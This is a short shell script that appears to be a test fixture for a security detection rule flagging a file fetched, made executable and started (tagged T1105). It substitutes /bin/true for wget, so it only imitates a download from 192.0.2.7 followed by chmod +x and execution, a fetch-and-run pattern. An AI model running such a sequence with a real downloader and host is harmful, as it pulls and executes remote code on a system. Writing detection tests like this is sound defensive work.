#!/bin/sh
# what: Fetches nothing with a tool of that name, makes a file executable, and starts it.
# rule: fetched_made_executable_started
# technique: T1105
# severity: medium
# where: both
d=$(mktemp -d)
trap 'rm -rf "$d"' EXIT
cp /bin/true "$d/wget"
cp /bin/true "$d/tool"
"$d/wget" -q http://192.0.2.7/tool -O "$d/tool"
/bin/chmod +x "$d/tool"
"$d/tool"
